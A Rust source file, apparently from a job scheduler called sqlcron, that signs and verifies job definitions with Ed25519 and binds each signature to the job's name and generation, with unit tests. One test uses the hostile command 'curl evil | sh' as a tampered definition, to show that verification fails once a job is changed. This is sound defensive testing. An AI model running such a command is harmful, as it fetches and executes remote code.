//! Signed jobs: what of a row a signature covers (its definition: what runs, as whom, where),
//! the one canonical text of it, and Ed25519 signing and checking. Pure: keys and rows come in
//! as values.
//!
//! The schedule, the policy (retries, timeout...), the pool and `enabled` are not covered: an
//! operator may reschedule or pause a signed job with SQL, and none of them changes what runs or
//! with whose rights.

use std::collections::BTreeMap;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as B64;
use ed25519_dalek::{Signer as _, SigningKey, VerifyingKey};
use serde_json::Value;

/// The columns a signature covers, in the order of the canonical text.
pub const SIGNED_COLUMNS: [&str; 13] = [
    "alerts",
    "argv",
    "command",
    "env",
    "env_file",
    "http",
    "inherit_env",
    "limits",
    "placement",
    "run_group",
    "run_on",
    "run_user",
    "workdir",
];

/// Columns that hold JSON: compared and signed by their parsed value, so that a database that
/// stores them differently spaced or ordered does not break a signature.
const JSON_COLUMNS: [&str; 7] = [
    "alerts",
    "argv",
    "env",
    "http",
    "inherit_env",
    "limits",
    "placement",
];

/// What the signature column held before the Base64 signature in the first form, which bound
/// neither the job's name nor a generation: refused now (a replay of any old version of any
/// job passed it).
const PREFIX_V1: &str = "ed25519:";

/// What the signature column holds: `ed25519v2:<generation>:<Base64>`.
const PREFIX: &str = "ed25519v2:";

/// What is signed before the name, the generation and the definition: a signature over
/// anything else never verifies as a job's.
const CONTEXT: &str = "sqlcron signed job v2\n";

/// A row's definition: the value of each signed column (`None`: NULL).
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Definition {
    columns: BTreeMap<&'static str, Option<String>>,
}

impl Definition {
    /// From column values by name; columns not named are NULL, names not signed are ignored.
    pub fn from_columns<'a>(values: impl IntoIterator<Item = (&'a str, Option<String>)>) -> Self {
        let mut columns: BTreeMap<&'static str, Option<String>> =
            SIGNED_COLUMNS.iter().map(|c| (*c, None)).collect();
        for (name, value) in values {
            if let Some(c) = SIGNED_COLUMNS.iter().find(|c| **c == name) {
                columns.insert(c, value);
            }
        }
        Definition { columns }
    }

    /// The one text a signature covers: a JSON object of the signed columns, keys sorted,
    /// JSON columns by their parsed value with sorted keys (their text when it is not JSON).
    pub fn canonical(&self) -> String {
        let mut out = serde_json::Map::new();
        for (name, value) in &self.columns {
            let v = match value {
                None => Value::Null,
                Some(text) if JSON_COLUMNS.contains(name) => match serde_json::from_str(text) {
                    Ok(parsed) => sorted(parsed),
                    Err(_) => Value::String(text.clone()),
                },
                Some(text) => Value::String(text.clone()),
            };
            out.insert((*name).to_string(), v);
        }
        // Keys were inserted in sorted order and `sorted` sorts nested ones: the text is the
        // same whatever map type serde_json was built with.
        serde_json::to_string(&Value::Object(out)).unwrap_or_default()
    }

    /// The signed text: the context, the job's name and the generation on lines of their own,
    /// then the canonical definition. A name holds no newline (`model::names`), so no two
    /// (name, generation, definition) give one text.
    fn message(&self, name: &str, generation: u64) -> Vec<u8> {
        format!("{CONTEXT}{name}\n{generation}\n{}", self.canonical()).into_bytes()
    }

    /// Whether two definitions run the same thing (their canonical texts are equal).
    pub fn same_as(&self, other: &Definition) -> bool {
        self.canonical() == other.canonical()
    }

    /// Whether two definitions run the same thing wherever each runs: equal but for
    /// `placement` and `run_on` (an every_node template and its copies, pinned to a node).
    pub fn same_but_where(&self, other: &Definition) -> bool {
        let without_where = |d: &Definition| {
            let mut d = d.clone();
            d.columns.insert("placement", None);
            d.columns.insert("run_on", None);
            d.canonical()
        };
        without_where(self) == without_where(other)
    }
}

/// `v` with every object's keys in sorted order.
fn sorted(v: Value) -> Value {
    match v {
        Value::Object(map) => {
            let mut entries: Vec<(String, Value)> = map.into_iter().collect();
            entries.sort_by(|a, b| a.0.cmp(&b.0));
            let mut out = serde_json::Map::new();
            for (k, v) in entries {
                out.insert(k, sorted(v));
            }
            Value::Object(out)
        }
        Value::Array(items) => Value::Array(items.into_iter().map(sorted).collect()),
        other => other,
    }
}

/// A key that signs jobs: the 32-byte Ed25519 seed, written in Base64 on one line.
pub struct SecretKey(SigningKey);

impl SecretKey {
    /// A key from 32 random bytes.
    pub fn from_seed(seed: [u8; 32]) -> SecretKey {
        SecretKey(SigningKey::from_bytes(&seed))
    }

    /// Reads the one-line form written by [`SecretKey::to_text`].
    pub fn parse(text: &str) -> Result<SecretKey, String> {
        let bytes = B64
            .decode(text.trim())
            .map_err(|_| "not a sqlcron signing key (Base64 of 32 bytes)".to_string())?;
        let seed: [u8; 32] = bytes
            .try_into()
            .map_err(|_| "not a sqlcron signing key (Base64 of 32 bytes)".to_string())?;
        Ok(SecretKey::from_seed(seed))
    }

    pub fn to_text(&self) -> String {
        B64.encode(self.0.to_bytes())
    }

    /// The public key nodes list in `[security] trusted_keys`.
    pub fn public(&self) -> PublicKey {
        PublicKey(self.0.verifying_key())
    }

    /// The value of the `signature` column for the job `name` with `definition`, as its
    /// `generation`-th signed version (higher than any before: nodes refuse a generation lower
    /// than one they have seen for the name).
    pub fn sign(&self, name: &str, generation: u64, definition: &Definition) -> String {
        let signature = self.0.sign(&definition.message(name, generation));
        format!("{PREFIX}{generation}:{}", B64.encode(signature.to_bytes()))
    }
}

/// A key a node trusts: a signature from it makes a row written with SQL runnable.
#[derive(Clone, PartialEq, Eq)]
pub struct PublicKey(VerifyingKey);

impl std::fmt::Debug for PublicKey {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "PublicKey({})", self.to_text())
    }
}

impl PublicKey {
    pub fn parse(text: &str) -> Result<PublicKey, String> {
        let bad = || {
            format!(
                "\"{}\" is not a public key (Base64 of 32 bytes, as `sqlcron keygen` prints)",
                short(text)
            )
        };
        let bytes = B64.decode(text.trim()).map_err(|_| bad())?;
        let bytes: [u8; 32] = bytes.try_into().map_err(|_| bad())?;
        VerifyingKey::from_bytes(&bytes)
            .map(PublicKey)
            .map_err(|_| bad())
    }

    pub fn to_text(&self) -> String {
        B64.encode(self.0.to_bytes())
    }
}

fn short(text: &str) -> String {
    text.chars().take(60).collect()
}

/// The generation a signature column names, if it is of the current form.
pub fn generation(signature: Option<&str>) -> Option<u64> {
    signature?
        .trim()
        .strip_prefix(PREFIX)?
        .split_once(':')?
        .0
        .parse()
        .ok()
}

/// Why a row's signature does not let it run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Refusal {
    Unsigned,
    Malformed,
    /// A signature of the first form (`ed25519:`), which bound no name and no generation.
    OldForm,
    /// No trusted key made this signature for this definition: it was changed since it was
    /// signed, or signed with a key this node does not trust.
    NotValid,
}

impl Refusal {
    pub fn message(&self) -> &'static str {
        match self {
            Refusal::Unsigned => {
                "unsigned: this node runs only signed jobs ([security] sql_jobs = \"signed\"); sign it with `sqlcron sign --key FILE JOB`"
            }
            Refusal::Malformed => {
                "signature: not a sqlcron signature (ed25519v2:<generation>:<Base64>); sign it again with `sqlcron sign --key FILE JOB`"
            }
            Refusal::OldForm => {
                "signature: of the first form, which names no job and no generation (it could be replayed); sign it again with `sqlcron sign --key FILE JOB`"
            }
            Refusal::NotValid => {
                "signature: does not match the job's definition for any trusted key (changed since it was signed, or signed with a key not in [security] trusted_keys)"
            }
        }
    }
}

/// Whether `signature` (the column) is a signature by one of `keys` of `definition` for the
/// job `name`; its generation when it is.
pub fn verify(
    name: &str,
    definition: &Definition,
    signature: Option<&str>,
    keys: &[PublicKey],
) -> Result<u64, Refusal> {
    let text = signature
        .map(str::trim)
        .filter(|s| !s.is_empty())
        .ok_or(Refusal::Unsigned)?;
    let Some(rest) = text.strip_prefix(PREFIX) else {
        return Err(if text.starts_with(PREFIX_V1) {
            Refusal::OldForm
        } else {
            Refusal::Malformed
        });
    };
    let (generation, b64) = rest.split_once(':').ok_or(Refusal::Malformed)?;
    let generation: u64 = generation.parse().map_err(|_| Refusal::Malformed)?;
    let bytes = B64.decode(b64).map_err(|_| Refusal::Malformed)?;
    let sig = ed25519_dalek::Signature::from_slice(&bytes).map_err(|_| Refusal::Malformed)?;
    let message = definition.message(name, generation);
    if keys
        .iter()
        .any(|k| k.0.verify_strict(&message, &sig).is_ok())
    {
        Ok(generation)
    } else {
        Err(Refusal::NotValid)
    }
}

/// [`verify`] for a row named `row_name`, under [`signed_name`]: a row a job makes of itself (a
/// backfill's, a chain's) does not copy `run_on`, so its NULL there verifies as the job's
/// `any` too, which means the same.
pub fn verify_row(
    row_name: &str,
    definition: &Definition,
    signature: Option<&str>,
    keys: &[PublicKey],
) -> Result<u64, Refusal> {
    let name = signed_name(row_name);
    match verify(name, definition, signature, keys) {
        Err(refused) if name != row_name && definition.columns.get("run_on") == Some(&None) => {
            let mut any = definition.clone();
            any.columns.insert("run_on", Some("any".into()));
            verify(name, &any, signature, keys).map_err(|_| refused)
        }
        verified => verified,
    }
}

/// The name a row's signature is made for: its own, or for the rows a job makes of itself (a
/// backfill's `JOB#backfill-SLOT`, a chain's `JOB#after-RUN`, which copy its definition and
/// signature) the job's.
pub fn signed_name(row_name: &str) -> &str {
    ["#backfill-", "#after-"]
        .iter()
        .filter_map(|sep| row_name.rsplit_once(sep).map(|(job, _)| job))
        .next()
        .unwrap_or(row_name)
}

/// Keys one per line (Base64), `#` comments and blank lines ignored: `trusted_keys_file`.
pub fn parse_key_lines(text: &str) -> Result<Vec<PublicKey>, String> {
    text.lines()
        .enumerate()
        .map(|(i, l)| (i, l.trim()))
        .filter(|(_, l)| !l.is_empty() && !l.starts_with('#'))
        .map(|(i, l)| PublicKey::parse(l).map_err(|e| format!("line {}: {e}", i + 1)))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn def(command: &str, env: Option<&str>) -> Definition {
        Definition::from_columns([
            ("command", Some(command.to_string())),
            ("env", env.map(str::to_string)),
            ("run_user", Some("backup".to_string())),
            ("schedule", Some("ignored".to_string())),
        ])
    }

    #[test]
    fn a_signature_verifies_only_for_its_definition_and_a_trusted_key() {
        let key = SecretKey::from_seed([7; 32]);
        let other = SecretKey::from_seed([8; 32]);
        let d = def("pg_dump app", Some(r#"{"A":"1","B":"2"}"#));
        let sig = key.sign("dump", 5, &d);
        assert!(sig.starts_with("ed25519v2:5:"));
        assert_eq!(generation(Some(&sig)), Some(5));
        assert_eq!(
            verify("dump", &d, Some(&sig), &[other.public(), key.public()]),
            Ok(5)
        );
        assert_eq!(
            verify("dump", &d, Some(&sig), &[other.public()]),
            Err(Refusal::NotValid)
        );
        let tampered = def("curl evil | sh", Some(r#"{"A":"1","B":"2"}"#));
        assert_eq!(
            verify("dump", &tampered, Some(&sig), &[key.public()]),
            Err(Refusal::NotValid)
        );
        let mut as_root = d.clone();
        as_root.columns.insert("run_user", Some("root".into()));
        assert_eq!(
            verify("dump", &as_root, Some(&sig), &[key.public()]),
            Err(Refusal::NotValid)
        );
        // Issue 49, finding 2: bound to its name and its generation.
        assert_eq!(
            verify("other-job", &d, Some(&sig), &[key.public()]),
            Err(Refusal::NotValid)
        );
        let regenerated = sig.replacen("ed25519v2:5:", "ed25519v2:6:", 1);
        assert_eq!(
            verify("dump", &d, Some(&regenerated), &[key.public()]),
            Err(Refusal::NotValid)
        );
        assert_eq!(
            verify("dump", &d, None, &[key.public()]),
            Err(Refusal::Unsigned)
        );
        assert_eq!(
            verify("dump", &d, Some(" "), &[key.public()]),
            Err(Refusal::Unsigned)
        );
        assert_eq!(
            verify("dump", &d, Some("hmac:abc"), &[key.public()]),
            Err(Refusal::Malformed)
        );
        assert_eq!(
            verify("dump", &d, Some("ed25519v2:x:AAAA"), &[key.public()]),
            Err(Refusal::Malformed)
        );
        assert_eq!(
            verify("dump", &d, Some("ed25519:AAAA"), &[key.public()]),
            Err(Refusal::OldForm)
        );
    }

    #[test]
    fn rows_a_job_makes_of_itself_are_signed_by_its_name() {
        assert_eq!(signed_name("rotate"), "rotate");
        assert_eq!(signed_name("rotate#backfill-1700000000000"), "rotate");
        assert_eq!(signed_name("rotate#after-42"), "rotate");
        assert_eq!(signed_name("tmpl@node-1"), "tmpl@node-1");
    }

    #[test]
    fn json_columns_sign_by_value_not_by_spelling() {
        let key = SecretKey::from_seed([1; 32]);
        let a = def("x", Some(r#"{"A":"1","B":{"d":1,"c":2}}"#));
        let b = def("x", Some(r#"{ "B": {"c": 2, "d": 1}, "A": "1" }"#));
        assert!(a.same_as(&b));
        assert_eq!(
            verify("j", &b, Some(&key.sign("j", 1, &a)), &[key.public()]),
            Ok(1)
        );
        // Text columns are compared as written.
        assert!(!def("x", None).same_as(&def("x ", None)));
    }

    #[test]
    fn keys_round_trip_through_their_text() {
        let key = SecretKey::from_seed([3; 32]);
        let again = SecretKey::parse(&format!("{}\n", key.to_text())).unwrap();
        assert_eq!(again.public(), key.public());
        let keys = parse_key_lines(&format!("# ops\n\n{}\n", key.public().to_text())).unwrap();
        assert_eq!(keys, vec![key.public()]);
        assert!(
            parse_key_lines("# ok\nnot-a-key\n")
                .unwrap_err()
                .starts_with("line 2:")
        );
        assert!(SecretKey::parse("c2hvcnQ=").is_err());
    }
}
